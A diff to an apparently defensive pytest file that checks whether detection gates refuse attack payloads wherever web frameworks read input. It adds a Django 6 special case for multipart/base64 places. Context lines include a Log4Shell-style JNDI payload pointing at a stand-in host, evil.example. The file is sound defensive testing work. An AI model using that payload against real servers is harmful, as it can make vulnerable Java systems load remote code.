@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import django
 import pytest
 
 from tests.detection.differential import FRAMEWORKS, gates, receives
@@ -17,6 +18,8 @@ PAYLOADS = (
     "${jndi:ldap://evil.example/a}",
 )
 GATES = gates()
+ONLY_DJANGO_5 = {"multipart, base64", "multipart, base64 with junk"}
+"""Places that Django 6, which needs Python 3.12, does not read any more."""
 
 
 @pytest.mark.parametrize("place", PLACES)
@@ -28,6 +31,9 @@ def test_a_payload_is_refused_in_every_place_where_an_app_reads_it(place: str) -
             if receives(framework, sent, payload):
                 read += 1
                 assert GATES[framework](sent), (framework, place, payload)
+    if django.VERSION >= (6,) and place in ONLY_DJANGO_5:
+        assert not read
+        return
     assert read, "no framework reads this place: the test shows nothing"
 
 
